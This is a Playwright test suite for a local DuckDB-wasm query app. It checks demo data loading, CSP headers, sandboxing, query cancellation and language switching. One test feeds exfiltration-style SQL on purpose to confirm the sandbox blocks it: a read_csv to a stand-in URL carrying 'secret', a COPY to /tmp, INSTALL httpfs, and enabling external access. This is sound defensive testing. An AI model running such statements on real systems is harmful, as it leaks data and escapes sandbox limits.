import { expect, openApp, test } from './fixtures';
import { queryRows } from './app-helpers';

test('opens on the embedded demo data, ready to query, with nothing leaving the machine', async ({
  page,
  requests,
}) => {
  await openApp(page);
  // The demo dataset is loaded and mapped to the canonical tables.
  for (const table of ['raw_setl', 'raw_fee', 'raw_psn', 'raw_medins']) {
    await expect(page.locator(`[data-testid=dataset][data-table="${table}"]`)).toBeVisible();
  }
  const rows = await queryRows(page, 'SELECT count(*) AS n FROM setl');
  expect(Number(rows[0]![0]!.replace(/\D/g, ''))).toBeGreaterThan(1000);
  // The recorder sees the DuckDB worker's own requests (the wasm), so it would see a leak too.
  expect(requests.urls.some((u) => /duckdb-eh.*\.wasm/.test(u))).toBe(true);
});

test('sends a strict Content-Security-Policy with the page and with the worker scripts', async ({
  page,
  requests,
}) => {
  const csp: string[] = [];
  page.on('response', (r) => {
    if (/\.(html|js)$|\/$/.test(new URL(r.url()).pathname))
      csp.push(r.headers()['content-security-policy'] ?? '');
  });
  await openApp(page);
  expect(csp.length).toBeGreaterThan(2);
  for (const policy of csp) {
    expect(policy).toContain("default-src 'none'");
    expect(policy).toContain("connect-src 'self'");
  }
  expect(requests.foreign).toEqual([]);
});

test('SQL cannot reach the network or local files, and says so', async ({ page }) => {
  await openApp(page);
  const { runSql } = await import('./app-helpers');
  for (const sql of [
    "SELECT * FROM read_csv('https://example.com/leak.csv?data=secret')",
    "COPY (SELECT 1) TO '/tmp/leak.csv'",
    'INSTALL httpfs',
    'SET enable_external_access = true',
  ]) {
    const c = await runSql(page, sql);
    await expect(c.locator('[data-testid=cell-status]')).toHaveAttribute('data-state', 'error');
    await expect(c.locator('[data-testid=cell-error]')).toBeVisible();
  }
  // The app still works afterwards.
  const rows = await queryRows(page, 'SELECT 6 * 7 AS answer');
  expect(rows[0]![0]).toContain('42');
});

test('a long query can be cancelled and the app keeps working', async ({ page }) => {
  await openApp(page);
  const { cell, focusEditor } = await import('./app-helpers');
  const c = cell(page, 0);
  await focusEditor(c);
  await page.keyboard.press('ControlOrMeta+a');
  await page.keyboard.press('Delete');
  await page.keyboard.insertText('SELECT sum(a.range * b.range) FROM range(200000) a, range(200000) b');
  await page.keyboard.press('ControlOrMeta+Enter');
  await expect(c.locator('[data-testid=cell-status]')).toHaveAttribute('data-state', 'running');
  await c.locator('[data-testid=cancel]').click();
  await expect(c.locator('[data-testid=cell-status]')).toHaveAttribute('data-state', 'error', {
    timeout: 15_000,
  });
  await expect(c.locator('[data-testid=cell-error]')).toContainText(/取消|ancel/);
  const rows = await queryRows(page, 'SELECT 1 + 1 AS two');
  expect(rows[0]![0]).toContain('2');
});

test('switches between Chinese and English', async ({ page }) => {
  await openApp(page);
  await expect(page.locator('html')).toHaveAttribute('lang', /^zh/);
  await page.locator('[data-testid=lang-switch]').click();
  await expect(page.locator('html')).toHaveAttribute('lang', 'en');
  await page.reload();
  await expect(page.locator('html')).toHaveAttribute('lang', 'en');
});
